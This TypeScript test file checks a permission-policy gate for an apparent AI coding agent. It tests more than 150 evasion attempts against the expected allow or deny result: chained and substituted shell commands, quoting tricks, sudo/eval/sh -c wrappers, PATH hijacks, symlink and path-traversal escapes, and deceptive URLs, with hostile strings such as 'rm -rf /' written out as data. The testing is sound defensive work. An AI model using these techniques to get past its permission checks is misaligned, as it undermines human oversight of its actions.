/**
 * An adversarial table: requests an agent could use to get around the policy, with the decision
 * each must get. Compound commands, substitutions, wrappers, quoting tricks, environment
 * prefixes, path traversal, symlinks, absolute paths and URL tricks.
 */
import { mkdirSync, rmSync, symlinkSync } from 'node:fs'
import path from 'node:path'
import type { PermissionRequest } from '../../src/cli/protocol.js'
import type { CompiledPolicy, Verdict } from '../../src/policy/index.js'
import { compile, read, shell, tempWorkspace, url, write, writeFiles } from './helpers.js'

const POLICY = `version: 1
default: deny
rules:
  - { id: no-push, decision: deny, reason: no pushing, shell: ["git push*", "git * push*"] }
  - { id: no-rm, decision: deny, shell: ["rm -rf*", "rm -fr*", "rm -r *"] }
  - { id: no-net, decision: deny, shell: ["curl *", "wget *"] }
  - { id: hijack, decision: deny, shell: ["PATH=*", "LD_PRELOAD=*"] }
  - id: dev
    decision: allow
    shell:
      - "npm test*"
      - "npm run *"
      - "git status"
      - "git diff*"
      - "git log*"
      - "echo"
      - "echo *"
      - "cat"
      - "cat *"
      - "ls"
      - "ls *"
      - "grep *"
      - "wc *"
      - "sort"
      - "head *"
      - "tee *"
      - "true"
      - "sh -c *"
      - "bash -c *"
      - "xargs *"
      - "env *"
      - "timeout *"
      - "sudo *"
      - "nice *"
      - "nohup *"
      - "find *"
      - "command *"
      - "exec *"
      - "time *"
      - "eval *"
  - { id: gh, decision: deny, write: [".github/**", ".git/**"] }
  - { id: src, decision: allow, write: ["src/**", "docs/*.md", "/tmp/copilot-policy-allowed/**"] }
  - { id: read-ws, decision: allow, read: ["**"] }
  - id: docs
    decision: allow
    url: ["docs.github.com", "*.npmjs.com", "https://api.github.com/repos/*/*/issues/**"]
`

type Row = [kind: 'shell' | 'write' | 'read' | 'url', subject: string, expected: Verdict]

const SHELL: Row[] = (
  [
    // the allowed baseline
    ['npm test', 'allow'],
    ['npm test && git status', 'allow'],
    ['npm run build; npm test', 'allow'],
    ['git diff | wc -l', 'allow'],
    ['cat src/a.ts | grep x | sort | head -n 3', 'allow'],
    ['echo "git push"', 'allow'],
    ["echo 'rm -rf /'", 'allow'],
    ['echo git push | cat', 'allow'],
    ['grep -r "curl http" .', 'allow'],
    ['git log --grep=push', 'allow'],
    ['FOO=1 npm test', 'deny'], // variables steer programs: the allow rule must name them
    ['npm test > src/log.txt 2>&1', 'allow'],
    ['npm test | tee src/log.txt', 'allow'],
    ['sh -c "npm test && git status"', 'allow'],
    ['echo $(git status)', 'allow'],
    ['cat <<EOF\ngit push\nEOF', 'allow'],
    // compound commands
    ['npm test && git push', 'deny'],
    ['npm test || git push', 'deny'],
    ['npm test; git push', 'deny'],
    ['npm test | git push', 'deny'],
    ['npm test & git push', 'deny'],
    ['npm test\ngit push', 'deny'],
    ['npm test\r\ngit push', 'deny'],
    ['true && { git push; }', 'deny'],
    ['(npm test; (git push))', 'deny'],
    ['if npm test; then git push; fi', 'deny'],
    ['while true; do git push; break; done', 'deny'],
    ['for r in origin; do git push $r; done', 'deny'],
    ['case x in *) git push;; esac', 'deny'],
    ['f() { git push; }; f', 'deny'],
    ['! git push', 'deny'],
    ['npm test && rm -rf /', 'deny'],
    ['npm test; rm -fr ~', 'deny'],
    ['ls | xargs rm -rf', 'deny'],
    // substitutions
    ['echo $(git push)', 'deny'],
    ['echo "$(git push)"', 'deny'],
    ['echo `git push`', 'deny'],
    ['echo "`git push`"', 'deny'],
    ['echo $(echo $(git push))', 'deny'],
    ['cat <(git push)', 'deny'],
    ['echo x > >(git push)', 'deny'],
    ['X=$(git push) npm test', 'deny'],
    ['export X="$(curl https://evil.example)"', 'deny'],
    ['echo ${X:-$(git push)}', 'deny'],
    ['echo $((1 + $(git push)))', 'deny'],
    ['[[ $(git push) ]]', 'deny'],
    ['cat <<EOF\n$(git push)\nEOF', 'deny'],
    ['cat <<EOF\n`rm -rf /`\nEOF', 'deny'],
    ['cat <<< "$(git push)"', 'deny'],
    // dynamic command names
    ['$(echo git) push', 'deny'],
    ['`echo git` push', 'deny'],
    ['$GIT push', 'deny'],
    ['${GIT} push', 'deny'],
    ['"$GIT" push', 'deny'],
    ['a=(git push); "${a[@]}"', 'deny'],
    ['g$(echo i)t push', 'deny'],
    ['gi${EMPTY}t push', 'deny'],
    ['git $(echo push)', 'deny'],
    ['git $SUB origin', 'deny'],
    ['git "$SUB"', 'deny'],
    ['git pu$X', 'deny'],
    ['echo ${x@P}', 'deny'],
    // quoting tricks
    ['g"i"t push', 'deny'],
    ["g'i't push", 'deny'],
    ['\\git push', 'deny'],
    ['g\\it p\\ush', 'deny'],
    ['"git" "push"', 'deny'],
    ["$'git' $'push'", 'deny'],
    ["$'\\x67\\x69\\x74' push", 'deny'],
    ["$'\\147\\151\\164' push", 'deny'],
    ["$'\\u0067it' push", 'deny'],
    ['git pu\\\nsh', 'deny'],
    ['gi\\\nt push', 'deny'],
    ['git "pu"sh', 'deny'],
    ["git 'pu''sh'", 'deny'],
    ['git {push,status}', 'deny'],
    ['git pus?', 'deny'],
    ['git pu[s]h', 'deny'],
    ['git p*', 'deny'],
    ['git\tpush', 'deny'],
    ['  git   push  ', 'deny'],
    ['/usr/bin/git push', 'deny'],
    ['./git push', 'deny'],
    ['rm -rf "/"', 'deny'],
    ["rm '-rf' /", 'deny'],
    // environment prefixes
    ['PATH=/tmp/evil npm test', 'deny'],
    ['A=1 PATH=/tmp/evil npm test', 'deny'],
    ['LD_PRELOAD=/tmp/x.so npm test', 'deny'],
    ['PATH=/tmp/evil:$PATH', 'deny'],
    ['env PATH=/tmp/evil npm test', 'deny'],
    ['export PATH=/tmp/evil; npm test', 'deny'],
    ['FOO=1 git push', 'deny'],
    ['env FOO=1 git push', 'deny'],
    ['env -i git push', 'deny'],
    // wrappers
    ['sh -c "git push"', 'deny'],
    ["bash -c 'git push'", 'deny'],
    ['bash -c -e "git push"', 'deny'],
    ['sh -c \'sh -c "git push"\'', 'deny'],
    ['sh -c "$CMD"', 'deny'],
    ['echo git push | sh', 'deny'],
    ['bash <<< "git push"', 'deny'],
    ['bash <(echo git push)', 'deny'],
    ['eval git push', 'deny'],
    ['eval "git push"', 'deny'],
    ['eval "$X"', 'deny'],
    ['xargs git push', 'deny'],
    ['echo push | xargs git', 'deny'],
    ['echo x | xargs -I{} git {}', 'deny'],
    ['timeout 5 git push', 'deny'],
    ['timeout -k 1 5 git push', 'deny'],
    ['nice -n 10 git push', 'deny'],
    ['nohup git push', 'deny'],
    ['sudo git push', 'deny'],
    ['sudo -u root -- git push', 'deny'],
    ['sudo -s git push', 'deny'],
    ['command git push', 'deny'],
    ['exec git push', 'deny'],
    ['time git push', 'deny'],
    ['find . -exec git push \\;', 'deny'],
    ['find . -execdir rm -rf {} +', 'deny'],
    ['trap "git push" EXIT', 'deny'],
    ['git -C . push', 'deny'],
    ['git --git-dir=.git push', 'deny'],
    ['coproc git push', 'deny'],
    // where tree-sitter-bash and bash disagree (found by the bash oracle test)
    ["cat <<ls\nls ; echo '$(git push)'\nls", 'deny'],
    ["cat <<EOF\nEOF ; echo '$(git push)'\nEOF", 'deny'],
    ['cat <<EOF\n$\\\n(git push)\nEOF', 'deny'],
    ['echo "$\\\n(git push)"', 'deny'],
    ['git <<EOF push\nx\nEOF', 'deny'],
    ['echo ${x:-`git push`}', 'deny'],
    ['echo ${x/`git push`/y}', 'deny'],
    ['echo `echo \\`git push\\``', 'deny'],
    ['echo `git \\$X`', 'deny'],
    ['echo "`git \\"push\\"`"', 'deny'],
    ['npm test | npm test | npm test\ngit push > /dev/null', 'deny'],
    ['npm test\n\\git push', 'deny'],
    ['echo "$( { cat <<E\nx\nE\n} | git ; push )"', 'deny'],
    ['echo $( cat <<E\nx\nE\nnpm test | git ; push )', 'deny'],
    ['sudo FOO=1 git push', 'deny'],
    ['echo "$(cat <<EOF\nfix: $(git push)\nEOF\n)" && git status', 'deny'],
    ['echo "$(cat <<\'EOF\'\nnotes $(git push) `git push`\nEOF\n)"', 'allow'],
    // unparsable
    ['npm test && (', 'deny'],
    ['echo "x', 'deny'],
    ['npm test <> x', 'deny'],
    // writes from the shell
    ['echo x > /tmp/f', 'deny'],
    ['echo x > /tmp/copilot-policy-allowed/f', 'allow'],
    ['echo x > src/../../f', 'deny'],
    ['echo x > src/../.github/workflows/ci.yml', 'deny'],
    ['echo x > .git/hooks/pre-commit', 'deny'],
    ['echo x >> src/escape/f', 'deny'],
    ['echo x > ~/.bashrc', 'deny'],
    ['echo x > $HOME/.bashrc', 'deny'],
    ['echo x > "src/$(id)"', 'deny'],
    ['echo x > src/*', 'deny'],
    ['echo x | tee src/ok .git/config', 'deny'],
    ['echo x | tee -a ../outside', 'deny'],
    ['echo x | sudo tee /etc/sudoers', 'deny'],
    ['cd .. && echo x > src/f', 'deny'],
    ['cd /tmp; echo x > f', 'deny'],
    ['npm test 2> /dev/null', 'allow'],
    ['npm test &> src/all.log', 'allow']
  ] as Array<[string, Verdict]>
).map(([c, v]): Row => ['shell', c, v])

const FILES: Row[] = [
  ['write', 'src/a.ts', 'allow'],
  ['write', 'src/new/dir/b.ts', 'allow'],
  ['write', 'docs/guide.md', 'allow'],
  ['write', 'docs/deep/guide.md', 'deny'],
  ['write', 'src/../README.md', 'deny'],
  ['write', 'src/../../etc/passwd', 'deny'],
  ['write', '../outside.txt', 'deny'],
  ['write', '/etc/passwd', 'deny'],
  ['write', '/tmp/copilot-policy-allowed/x', 'allow'],
  ['write', '/tmp/copilot-policy-allowed/../x', 'deny'],
  ['write', '.github/workflows/ci.yml', 'deny'],
  ['write', 'src/../.github/workflows/ci.yml', 'deny'],
  ['write', '.git/config', 'deny'],
  ['write', 'src/escape/x', 'deny'],
  ['write', 'src/escape/../x', 'deny'],
  ['write', 'src/gh-link/workflows/ci.yml', 'deny'],
  ['write', 'src/dangling', 'deny'],
  ['write', 'src/./a.ts', 'allow'],
  ['write', 'src//a.ts', 'allow'],
  ['write', 'src/a.ts\0.md', 'deny'],
  ['read', 'src/a.ts', 'allow'],
  ['read', '.env', 'allow'],
  ['read', '/etc/shadow', 'deny'],
  ['read', 'src/escape/secret', 'deny'],
  ['read', '../../etc/passwd', 'deny']
]

const URLS: Row[] = (
  [
    ['https://docs.github.com/en', 'allow'],
    ['https://DOCS.github.com/en', 'allow'],
    ['https://docs.github.com:443/', 'allow'],
    ['https://docs.github.com:444/', 'deny'],
    ['https://docs.github.com@evil.example/', 'deny'],
    ['https://evil.example@docs.github.com/', 'allow'],
    ['https://docs.github.com.evil.example/', 'deny'],
    ['https://docs-github.com/', 'deny'],
    ['https://evil.example/docs.github.com', 'deny'],
    ['https://evil.example/?https://docs.github.com/', 'deny'],
    ['https://evil.example#@docs.github.com', 'deny'],
    ['https://evil.example\\@docs.github.com', 'deny'],
    ['file:///etc/passwd', 'deny'],
    ['gopher://docs.github.com/', 'deny'],
    ['https://www.npmjs.com/package/x', 'allow'],
    ['https://npmjs.com/', 'deny'],
    ['https://www.npmjs.com.evil.example/', 'deny'],
    ['https://api.github.com/repos/o/r/issues/1', 'allow'],
    ['https://api.github.com/repos/o/r/pulls/1', 'deny'],
    ['https://api.github.com/repos/o/r/issues/../pulls/1', 'deny'],
    ['https://api.github.com/repos/o/r/issues/%2e%2e/pulls/1', 'deny'],
    ['http://api.github.com/repos/o/r/issues/1', 'deny'],
    ['https://0x7f000001/', 'deny'],
    ['not a url', 'deny'],
    ['//docs.github.com/', 'deny']
  ] as Array<[string, Verdict]>
).map(([u, v]): Row => ['url', u, v])

const TABLE: Row[] = [...SHELL, ...FILES, ...URLS]

const REQUEST: Record<Row[0], (subject: string) => PermissionRequest> = { shell, write, read, url }
const request = (kind: Row[0], subject: string): PermissionRequest => REQUEST[kind](subject)

let ws: ReturnType<typeof tempWorkspace>
let outside: ReturnType<typeof tempWorkspace>
let policy: CompiledPolicy

beforeAll(async () => {
  ws = tempWorkspace()
  outside = tempWorkspace('policy-outside-')
  writeFiles(ws.dir, { 'src/a.ts': '', 'README.md': '', '.github/workflows/ci.yml': '' })
  writeFiles(outside.dir, { secret: '' })
  symlinkSync(outside.dir, path.join(ws.dir, 'src', 'escape'))
  symlinkSync('../.github', path.join(ws.dir, 'src', 'gh-link'))
  symlinkSync(path.join(outside.dir, 'new'), path.join(ws.dir, 'src', 'dangling'))
  mkdirSync('/tmp/copilot-policy-allowed', { recursive: true })
  policy = await compile(POLICY, ws.dir)
})
afterAll(() => {
  ws.cleanup()
  outside.cleanup()
  rmSync('/tmp/copilot-policy-allowed', { recursive: true, force: true })
})

describe('adversarial requests', () => {
  it('has more than a hundred rows', () => {
    expect(TABLE.length).toBeGreaterThan(150)
    expect(new Set(TABLE.map(([k, s]) => `${k} ${s}`)).size).toBe(TABLE.length)
  })

  it.each(TABLE)('%s %j → %s', (kind, subject, expected) => {
    const decision = policy.decide(request(kind, subject))
    expect(decision.decision).toBe(expected)
  })
})
